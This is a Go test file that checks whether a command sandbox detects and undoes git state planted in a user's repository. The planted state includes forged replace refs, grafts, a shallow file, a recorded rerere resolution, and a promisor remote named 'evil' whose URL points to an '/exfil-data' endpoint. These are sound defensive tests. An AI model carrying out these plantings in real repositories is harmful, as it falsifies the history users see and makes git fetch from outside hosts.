package e2e

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// A command leaves something in the user's own repository that runs
// nothing but changes what the user's git shows them, or where it fetches
// from unasked: a replace ref (git log and show give the command's commit
// in place of the user's), grafts or a shallow file (a history of the
// command's choosing), a promisor remote (git show fetches missing objects
// from the command's URL, outside the sandbox's network rules), a
// recorded rerere resolution (the user's next conflicting merge takes the
// command's text). A control makes the same planting on the host and sees
// it get through.

// commitEnv gives the command's git an identity.
const commitEnv = `export GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=A GIT_COMMITTER_EMAIL=a@example.com; `

func TestEscapeGitPromisor(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var conns atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			c.Close()
		}
	}()
	promisor := func(keys string) string {
		// A repository made in the call (a trusted one's config is
		// read-only while calls run), whose file's blob goes, so that
		// git show HEAD there needs it.
		return fmt.Sprintf(commitEnv+`git init -q sub && cd sub && echo x > f && git add f && git commit -qm s &&
b=$(git rev-parse HEAD:f) && rm -f .git/objects/$(echo $b | cut -c1-2)/$(echo $b | cut -c3-) &&
git config core.repositoryformatversion 1 && git config remote.evil.url http://%s/exfil-data && %s`, ln.Addr(), keys)
	}
	fetched := func(e *env) bool { return conns.Swap(0) > 0 }
	for _, tt := range []opStateAttack{
		{name: "a promisor remote made (partialClone)", setup: func(e *env) { e.gitRepo() },
			steps: []string{promisor(`git config extensions.partialClone evil`)},
			user:  [][]string{{"-C", "sub", "show", "HEAD"}}, harmed: fetched},
		{name: "a promisor remote made (remote.*.promisor)", setup: func(e *env) { e.gitRepo() },
			steps: []string{promisor(`git config remote.evil.promisor true && git config remote.evil.partialCloneFilter blob:none`)},
			user:  [][]string{{"-C", "sub", "show", "HEAD"}}, harmed: fetched},
	} {
		t.Run(tt.name, func(t *testing.T) {
			conns.Store(0)
			runOpStateAttack(t, tt)
		})
	}
}

// logShows reports whether the user's git log (and show of HEAD) prints s.
func logShows(e *env, s string) bool {
	out, _ := e.gitTry("log", "--format=%s%n%b")
	show, _ := e.gitTry("show", "HEAD")
	return strings.Contains(out+show, s)
}

// withReplaceRef is the user's repository with a replace ref of their own.
func withReplaceRef(e *env) {
	e.gitRepo()
	e.hostSh(`git replace HEAD $(git commit-tree -m USERS HEAD^{tree})`)
}

// conflicting is the user's repository with a branch topic whose merge
// into the current branch conflicts on README.
func conflicting(e *env) {
	e.gitRepo()
	e.hostSh(`git checkout -qb topic && echo topic > README && git commit -qam topic && git checkout -q - &&
echo main > README && git commit -qam main`)
}

func TestEscapeGitHistory(t *testing.T) {
	for _, tt := range []opStateAttack{
		{name: "a replace ref made", setup: func(e *env) { e.gitRepo() },
			steps:  []string{commitEnv + `git replace HEAD $(git commit-tree -m PLANTED HEAD^{tree})`},
			harmed: func(e *env) bool { return logShows(e, "PLANTED") }, said: "undid"},
		{name: "a replace ref made and packed", setup: func(e *env) { e.gitRepo() },
			steps:  []string{commitEnv + `git replace HEAD $(git commit-tree -m PLANTED HEAD^{tree}) && git pack-refs --all`},
			harmed: func(e *env) bool { return logShows(e, "PLANTED") }, said: "undid"},
		{name: "the user's replace ref moved", setup: withReplaceRef,
			steps:  []string{commitEnv + `git replace -f HEAD $(git commit-tree -m PLANTED HEAD^{tree})`},
			harmed: func(e *env) bool { return logShows(e, "PLANTED") || !logShows(e, "USERS") }, said: "undid"},
		{name: "the user's packed replace ref moved in packed-refs", setup: func(e *env) { withReplaceRef(e); e.hostSh(`git pack-refs --all`) },
			steps: []string{commitEnv + `p=$(git commit-tree -m PLANTED HEAD^{tree}) && r=$(git for-each-ref --format='%(refname)' refs/replace/) &&
sed -i "s|^[0-9a-f]* $r\$|$p $r|" .git/packed-refs`},
			harmed: func(e *env) bool { return logShows(e, "PLANTED") || !logShows(e, "USERS") }, said: "undid"},
		{name: "grafts made", setup: func(e *env) { e.gitRepo() },
			steps:  []string{commitEnv + `p=$(git commit-tree -m PLANTED HEAD^{tree}) && mkdir -p .git/info && echo "$(git rev-parse HEAD) $p" > .git/info/grafts`},
			harmed: func(e *env) bool { return logShows(e, "PLANTED") }},
		{name: "a shallow file made", setup: twoCommits,
			steps:  []string{`git rev-parse HEAD > .git/shallow`},
			harmed: func(e *env) bool { return !logShows(e, "initial") }},
		{name: "a rerere resolution recorded", setup: conflicting,
			steps: []string{commitEnv + `git -c rerere.enabled=true merge topic >/dev/null; echo PLANTED > README && git -c rerere.enabled=true rerere && git reset -q --hard`},
			user:  [][]string{{"merge", "topic"}},
			harmed: func(e *env) bool {
				b, _ := os.ReadFile(filepath.Join(e.ws, "README"))
				return strings.Contains(string(b), "PLANTED")
			}},
	} {
		t.Run(tt.name, func(t *testing.T) { runOpStateAttack(t, tt) })
	}
}

// A replace ref the user had, which a call moved, is set back, not
// deleted: the user's own git log shows what it showed before.
func TestEscapeGitReplaceRefSetBack(t *testing.T) {
	e := plantEnv(t)
	withReplaceRef(e)
	before := e.git("for-each-ref", "refs/replace/")
	_, stderr, _ := e.sh(commitEnv + `git replace -f HEAD $(git commit-tree -m PLANTED HEAD^{tree}) && git replace $(git rev-parse HEAD:README) $(echo x | git hash-object -w --stdin)`)
	if after := e.git("for-each-ref", "refs/replace/"); after != before {
		t.Errorf("replace refs after the call:\n%s\nwant, as before it:\n%s\nstderr: %s", after, before, stderr)
	}
	if !strings.Contains(stderr, "undid") || !strings.Contains(stderr, "replace refs") {
		t.Errorf("the call did not say it undid replace refs: %q", stderr)
	}
}

// Honest use leaves these as they are, with no note: commits in a
// repository with the user's replace ref, git gc and pack-refs, a fetch
// in a normal clone and one that deepens a shallow clone, a merge with a
// conflict resolved and committed, a repository with a promisor remote
// the user made, to which the call commits.
func TestGitHistoryHonest(t *testing.T) {
	for _, tt := range []struct {
		name   string
		setup  func(e *env)
		script string
		check  func(e *env) string // what is wrong after, or ""
	}{
		{name: "commits and gc beside the user's replace ref", setup: withReplaceRef,
			script: `echo b >> README && git commit -qam b && git gc -q && git pack-refs --all`,
			check: func(e *env) string {
				if !logShows(e, "USERS") {
					return "the user's replace ref is gone"
				}
				return ""
			}},
		{name: "a fetch in a normal clone",
			setup: func(e *env) {
				e.gitRepo()
				e.hostSh(`git clone -q --bare . up.git && git clone -q up.git clone && git commit -q --allow-empty -m more && git push -q up.git HEAD:refs/heads/more`)
			},
			script: `git -C clone fetch -q origin && git -C clone merge -q --ff-only origin/more 2>/dev/null; git -C clone log --format=%s -1 origin/more`,
			check: func(e *env) string {
				if _, err := os.Lstat(filepath.Join(e.ws, "clone/.git/shallow")); err == nil {
					return "a shallow file appeared"
				}
				return ""
			}},
		{name: "a fetch that deepens a shallow clone",
			setup: func(e *env) {
				e.gitRepo()
				e.hostSh(`git commit -q --allow-empty -m two && git commit -q --allow-empty -m three && git clone -q --bare . up.git && git clone -q --depth 1 file://$PWD/up.git clone`)
			},
			script: `git -C clone fetch -q --deepen 1 && git -C clone log --format=%s`,
			check: func(e *env) string {
				out, _ := e.gitTry("-C", "clone", "log", "--format=%s")
				if out != "three\ntwo\n" {
					return fmt.Sprintf("the clone's log %q, want three and two", out)
				}
				return ""
			}},
		{name: "a conflicting merge resolved and committed", setup: conflicting,
			script: `git merge topic >/dev/null; echo both > README && git add README && git commit -qm merged && git log --format=%s -1`,
			check: func(e *env) string {
				if out, _ := e.gitTry("log", "--format=%s", "-1"); out != "merged\n" {
					return fmt.Sprintf("the log %q", out)
				}
				return ""
			}},
		{name: "commits in the user's partial clone",
			setup: func(e *env) {
				e.gitRepo()
				e.hostSh(`git clone -q --bare . up.git && git -C up.git config uploadpack.allowFilter true && git clone -q --filter=blob:none file://$PWD/up.git clone`)
			},
			script: `cd clone && echo c > c && git add c && git commit -qm c && git log --format=%s -1`,
			check: func(e *env) string {
				if out, _ := e.gitTry("-C", "clone", "config", "remote.origin.promisor"); out != "true\n" {
					return fmt.Sprintf("the clone's remote.origin.promisor %q, want true", out)
				}
				return ""
			}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := plantEnv(t)
			tt.setup(e)
			s := e.serve()
			res, out := s.sh(t, commitEnv+tt.script)
			if out.ExitCode != 0 {
				t.Errorf("the call: %+v", out)
			}
			if n := text(res); strings.Contains(n, "aside") || strings.Contains(n, "undid") || strings.Contains(n, "git:") {
				t.Errorf("honest use got a note: %s", n)
			}
			if w := tt.check(e); w != "" {
				t.Error(w)
			}
		})
	}
}

// The trade-off: an honest git fetch --depth in a full clone makes a
// shallow file, which is moved aside, and the note says how to take it
// back.
func TestGitHistoryShallowFetchNote(t *testing.T) {
	e := plantEnv(t)
	e.gitRepo()
	e.hostSh(`git commit -q --allow-empty -m two && git clone -q --bare . up.git && git clone -q file://$PWD/up.git clone`)
	s := e.serve()
	res, _ := s.sh(t, `git -C clone fetch -q --depth 1 origin`)
	if n := text(res); !strings.Contains(n, "aside") || !strings.Contains(n, "back to shallow") {
		t.Errorf("the note %q, want the shallow file moved aside and how to rename it back", n)
	}
}
